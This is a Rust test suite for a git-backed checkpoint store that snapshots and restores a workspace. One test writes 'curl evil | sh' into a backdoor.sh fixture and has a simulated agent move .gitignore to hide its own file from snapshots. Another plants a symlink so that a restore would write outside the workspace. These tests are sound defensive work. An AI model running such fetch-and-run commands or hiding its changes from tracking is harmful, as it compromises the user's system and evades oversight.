//! The shadow store's tests: snapshots, seeds, size limits, pinned ignore
//! rules, unstorable names, restores that follow no link, a private store.
use super::*;
use std::os::unix::fs::PermissionsExt;

/// Checkpoints of `workspace` in a store and index under `home`.
fn shadow(home: &Path, workspace: &Path) -> Shadow {
    Shadow::new(
        home.join("checkpoints.git"),
        home.join("s.index"),
        workspace.to_path_buf(),
    )
}

#[tokio::test]
async fn snapshots_compare_and_restore_byte_for_byte() {
    let home = tempfile::tempdir().unwrap();
    let ws = tempfile::tempdir().unwrap();
    let w = ws.path();
    std::fs::write(w.join("keep.txt"), "one\n").unwrap();
    std::fs::write(w.join(".gitignore"), "ignored/\n").unwrap();
    std::fs::create_dir(w.join("ignored")).unwrap();
    std::fs::write(w.join("ignored/big.bin"), "x").unwrap();
    let shadow = shadow(home.path(), w);
    let before = shadow.snapshot().await.unwrap();
    std::fs::write(w.join("keep.txt"), "two\n").unwrap();
    std::fs::write(w.join("new.sh"), "echo hi\n").unwrap();
    std::fs::set_permissions(w.join("new.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let after = shadow.snapshot().await.unwrap();
    assert_ne!(before, after);
    let changes = shadow.changes(&before, &after).await.unwrap();
    assert_eq!(
        changes,
        [
            Change {
                status: 'M',
                path: "keep.txt".into()
            },
            Change {
                status: 'A',
                path: "new.sh".into()
            },
        ]
    );
    assert!(shadow
        .diff(&before, &after)
        .await
        .unwrap()
        .contains("-one\n+two\n"));
    shadow.restore(&after, &before).await.unwrap();
    assert_eq!(
        std::fs::read_to_string(w.join("keep.txt")).unwrap(),
        "one\n"
    );
    assert!(!w.join("new.sh").exists());
    // Ignored files are neither captured nor touched.
    assert!(w.join("ignored/big.bin").exists());
    assert_eq!(shadow.snapshot().await.unwrap(), before);
    shadow.restore(&before, &after).await.unwrap();
    let mode = std::fs::metadata(w.join("new.sh"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o111, 0o111);
}

#[tokio::test]
async fn a_new_session_starts_from_the_workspaces_seed_and_sees_every_change() {
    let home = tempfile::tempdir().unwrap();
    let ws = tempfile::tempdir().unwrap();
    let w = ws.path();
    std::fs::write(w.join("a.txt"), "aaaa\n").unwrap();
    std::fs::write(w.join("b.txt"), "kept\n").unwrap();
    let big = std::fs::File::create(w.join("big.bin")).unwrap();
    big.set_len(SIZE_LIMIT + 1).unwrap();
    let session = |name: &str| {
        Shadow::new(
            home.path().join("checkpoints.git"),
            home.path().join(name),
            w.to_path_buf(),
        )
    };
    let first = session("one.index");
    assert_eq!(first.warm().await.unwrap(), Warmed::Snapshot);
    let seeded_state = first.snapshot().await.unwrap();
    // A session that has its index (a resume) is ready as it is.
    assert_eq!(first.warm().await.unwrap(), Warmed::Already);
    // Changed after the seed was written (same size, likely the same
    // second): the seeded session's snapshot must still see it.
    std::fs::write(w.join("a.txt"), "bbbb\n").unwrap();
    let second = session("two.index");
    assert_eq!(second.warm().await.unwrap(), Warmed::Seeded);
    // Nothing of its own until it takes a snapshot.
    assert!(!home.path().join("two.index").exists());
    let state = second.snapshot().await.unwrap();
    assert_ne!(state, seeded_state);
    // The same tree as a store that never saw the workspace makes.
    let elsewhere = tempfile::tempdir().unwrap();
    assert_eq!(shadow(elsewhere.path(), w).snapshot().await.unwrap(), state);
    assert_eq!(second.skipped().await, ["big.bin"]);
    assert_eq!(
        second.changes(&seeded_state, &state).await.unwrap(),
        [Change {
            status: 'M',
            path: "a.txt".into()
        }]
    );
    // Sessions of a new workspace warming up together: one hashes it,
    // the others wait for its seed.
    let fresh = tempfile::tempdir().unwrap();
    std::fs::write(fresh.path().join("d.txt"), "d\n").unwrap();
    let together: Vec<Shadow> = (0..4)
        .map(|n| {
            Shadow::new(
                home.path().join("checkpoints.git"),
                home.path().join(format!("together-{n}.index")),
                fresh.path().to_path_buf(),
            )
        })
        .collect();
    let mut how = Vec::new();
    for warmed in futures_util::future::join_all(together.iter().map(Shadow::warm)).await {
        how.push(warmed.unwrap());
    }
    how.sort_by_key(|w| *w == Warmed::Seeded);
    assert_eq!(
        how,
        [
            Warmed::Snapshot,
            Warmed::Seeded,
            Warmed::Seeded,
            Warmed::Seeded
        ]
    );
    // Another workspace has its own seed.
    let other = tempfile::tempdir().unwrap();
    std::fs::write(other.path().join("c.txt"), "c\n").unwrap();
    let third = Shadow::new(
        home.path().join("checkpoints.git"),
        home.path().join("three.index"),
        other.path().to_path_buf(),
    );
    assert_eq!(third.warm().await.unwrap(), Warmed::Snapshot);
}

#[tokio::test]
async fn the_workspaces_gitattributes_do_not_change_the_bytes() {
    let home = tempfile::tempdir().unwrap();
    let ws = tempfile::tempdir().unwrap();
    let w = ws.path();
    std::fs::write(w.join(".gitattributes"), "* text=auto eol=lf\n").unwrap();
    std::fs::write(w.join("dos.txt"), "one\r\ntwo\r\n").unwrap();
    let shadow = shadow(home.path(), w);
    let before = shadow.snapshot().await.unwrap();
    std::fs::write(w.join("dos.txt"), "changed\n").unwrap();
    let after = shadow.snapshot().await.unwrap();
    shadow.restore(&after, &before).await.unwrap();
    assert_eq!(std::fs::read(w.join("dos.txt")).unwrap(), b"one\r\ntwo\r\n");
    // A store deleted under an old index is made again and works.
    std::fs::remove_dir_all(home.path().join("checkpoints.git")).unwrap();
    assert_eq!(shadow.snapshot().await.unwrap(), before);
}

#[tokio::test]
async fn files_over_the_size_limit_are_left_out_and_listed() {
    let home = tempfile::tempdir().unwrap();
    let ws = tempfile::tempdir().unwrap();
    let w = ws.path();
    std::fs::write(w.join("a.txt"), "small\n").unwrap();
    // Sparse: large without costing the disk.
    let big = std::fs::File::create(w.join("big *.bin")).unwrap();
    big.set_len(SIZE_LIMIT + 1).unwrap();
    let shadow = shadow(home.path(), w);
    let first = shadow.snapshot().await.unwrap();
    assert_eq!(shadow.skipped().await, ["big *.bin"]);
    // Shrunk below the limit, it is captured again.
    std::fs::write(w.join("big *.bin"), "now small\n").unwrap();
    let second = shadow.snapshot().await.unwrap();
    assert!(shadow.skipped().await.is_empty());
    assert_eq!(
        shadow.changes(&first, &second).await.unwrap(),
        [Change {
            status: 'A',
            path: "big *.bin".into()
        }]
    );
    // Grown past it, a captured file leaves the snapshots.
    let again = std::fs::OpenOptions::new()
        .write(true)
        .open(w.join("big *.bin"))
        .unwrap();
    again.set_len(SIZE_LIMIT + 1).unwrap();
    let third = shadow.snapshot().await.unwrap();
    assert_eq!(third, first);
    assert_eq!(shadow.skipped().await, ["big *.bin"]);
}

#[tokio::test]
async fn moving_the_gitignore_away_does_not_make_ignored_files_the_sessions() {
    let home = tempfile::tempdir().unwrap();
    let ws = tempfile::tempdir().unwrap();
    let w = ws.path();
    std::fs::write(w.join(".gitignore"), ".env\nsecrets/\n").unwrap();
    std::fs::write(w.join(".env"), "DB_PASSWORD=hunter2\n").unwrap();
    std::fs::create_dir(w.join("secrets")).unwrap();
    std::fs::write(w.join("secrets/prod.key"), "key\n").unwrap();
    std::fs::write(w.join("app.py"), "print(1)\n").unwrap();
    let shadow = shadow(home.path(), w);
    let start = shadow.snapshot().await.unwrap();
    // The agent moves the rules away for a snapshot, and ignores its own
    // new file in a rule of its own.
    std::fs::rename(w.join(".gitignore"), w.join("gitignore.bak")).unwrap();
    let middle = shadow.snapshot().await.unwrap();
    std::fs::rename(w.join("gitignore.bak"), w.join(".gitignore")).unwrap();
    std::fs::write(w.join(".gitignore"), ".env\nsecrets/\nbackdoor.sh\n").unwrap();
    std::fs::write(w.join("backdoor.sh"), "curl evil | sh\n").unwrap();
    let end = shadow.snapshot().await.unwrap();
    let paths = |changes: Vec<Change>| -> Vec<String> {
        changes
            .into_iter()
            .map(|c| format!("{} {}", c.status, c.path))
            .collect()
    };
    assert_eq!(
        paths(shadow.changes(&start, &middle).await.unwrap()),
        ["D .gitignore", "A gitignore.bak"]
    );
    assert_eq!(
        paths(shadow.changes(&start, &end).await.unwrap()),
        ["M .gitignore", "A backdoor.sh"]
    );
    // Back to the start: the session's file goes, the user's stay.
    shadow.restore(&end, &start).await.unwrap();
    assert!(!w.join("backdoor.sh").exists());
    assert_eq!(
        std::fs::read_to_string(w.join(".env")).unwrap(),
        "DB_PASSWORD=hunter2\n"
    );
    assert!(w.join("secrets/prod.key").exists());
    // A resumed session (same index) keeps the rules it started with.
    std::fs::remove_file(w.join(".gitignore")).unwrap();
    let again = shadow.snapshot().await.unwrap();
    assert_eq!(
        paths(shadow.changes(&start, &again).await.unwrap()),
        ["D .gitignore"]
    );
}

#[tokio::test]
async fn a_path_git_cannot_store_is_left_out_and_named_and_the_rest_is_captured() {
    let home = tempfile::tempdir().unwrap();
    let ws = tempfile::tempdir().unwrap();
    let w = ws.path();
    std::fs::write(w.join("a.txt"), "a\n").unwrap();
    let shadow = shadow(home.path(), w);
    let start = shadow.snapshot().await.unwrap();
    std::fs::create_dir_all(w.join(".GIT")).unwrap();
    std::fs::write(w.join(".GIT/x"), "x").unwrap();
    std::fs::create_dir_all(w.join("sub/.Git")).unwrap();
    std::fs::write(w.join("sub/.Git/config"), "x").unwrap();
    std::fs::write(w.join("backdoor.sh"), "evil\n").unwrap();
    std::fs::write(w.join("a.txt"), "rewritten\n").unwrap();
    let end = shadow.snapshot().await.unwrap();
    assert_eq!(shadow.unindexed().await, [".GIT/", "sub/.Git/"]);
    let changes = shadow.changes(&start, &end).await.unwrap();
    let paths: Vec<&str> = changes.iter().map(|c| c.path.as_str()).collect();
    assert_eq!(paths, ["a.txt", "backdoor.sh"]);
    // And later changes still count.
    std::fs::write(w.join("later.sh"), "later\n").unwrap();
    let later = shadow.snapshot().await.unwrap();
    assert_eq!(shadow.changes(&end, &later).await.unwrap().len(), 1);
}

#[tokio::test]
async fn a_restore_never_writes_through_a_link_planted_where_a_directory_was() {
    let home = tempfile::tempdir().unwrap();
    let ws = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let w = ws.path();
    std::fs::create_dir(w.join("d")).unwrap();
    for n in 0..20 {
        std::fs::write(w.join(format!("d/f{n}")), format!("{n}\n")).unwrap();
    }
    std::fs::write(outside.path().join("f3"), "precious\n").unwrap();
    let shadow = shadow(home.path(), w);
    let with_d = shadow.snapshot().await.unwrap();
    std::fs::remove_dir_all(w.join("d")).unwrap();
    let without_d = shadow.snapshot().await.unwrap();
    // Planted after the last snapshot: the restore would pass through it.
    std::os::unix::fs::symlink(outside.path(), w.join("d")).unwrap();
    let err = shadow.restore(&without_d, &with_d).await.unwrap_err();
    match &err {
        CheckpointError::Blocked { paths, done } => {
            assert_eq!(paths, &["d".to_string()]);
            assert!(!done);
        }
        other => panic!("{other}"),
    }
    assert!(err.to_string().contains("nothing was changed"), "{err}");
    let names: Vec<_> = std::fs::read_dir(outside.path())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(names, ["f3"]);
    assert_eq!(
        std::fs::read_to_string(outside.path().join("f3")).unwrap(),
        "precious\n"
    );
    // A link the snapshot holds is replaced, not followed.
    std::fs::remove_file(w.join("d")).unwrap();
    std::os::unix::fs::symlink(outside.path(), w.join("d")).unwrap();
    let with_link = shadow.snapshot().await.unwrap();
    shadow.restore(&with_link, &with_d).await.unwrap();
    assert!(std::fs::symlink_metadata(w.join("d")).unwrap().is_dir());
    assert_eq!(std::fs::read_to_string(w.join("d/f3")).unwrap(), "3\n");
    assert_eq!(
        std::fs::read_to_string(outside.path().join("f3")).unwrap(),
        "precious\n"
    );
    // A file link that is the target of a write is replaced too.
    std::fs::remove_file(w.join("d/f3")).unwrap();
    std::os::unix::fs::symlink(outside.path().join("f3"), w.join("d/f3")).unwrap();
    let linked_file = shadow.snapshot().await.unwrap();
    shadow.restore(&linked_file, &with_d).await.unwrap();
    assert_eq!(std::fs::read_to_string(w.join("d/f3")).unwrap(), "3\n");
    assert_eq!(
        std::fs::read_to_string(outside.path().join("f3")).unwrap(),
        "precious\n"
    );
}

#[tokio::test]
async fn the_store_is_private_under_a_home_open_to_everyone() {
    let home = tempfile::tempdir().unwrap();
    std::fs::set_permissions(home.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let ws = tempfile::tempdir().unwrap();
    std::fs::write(ws.path().join("secret.env"), "DB_PASSWORD=x\n").unwrap();
    let shadow = Shadow::new(
        home.path().join("checkpoints.git"),
        home.path().join("sessions/s/checkpoint.index"),
        ws.path().to_path_buf(),
    );
    shadow.warm().await.unwrap();
    shadow.snapshot().await.unwrap();
    let mut open = Vec::new();
    let mut stack = vec![
        home.path().join("checkpoints.git"),
        home.path().join("sessions"),
    ];
    while let Some(path) = stack.pop() {
        let meta = std::fs::symlink_metadata(&path).unwrap();
        if meta.permissions().mode() & 0o077 != 0 {
            open.push(path.clone());
        }
        if meta.is_dir() {
            stack.extend(std::fs::read_dir(&path).unwrap().map(|e| e.unwrap().path()));
        }
    }
    assert!(open.is_empty(), "open to others: {open:?}");
    // A store an older pod left open is closed when next used.
    let store = home.path().join("checkpoints.git");
    std::fs::set_permissions(&store, std::fs::Permissions::from_mode(0o755)).unwrap();
    shadow.snapshot().await.unwrap();
    let mode = std::fs::metadata(&store).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o700);
}
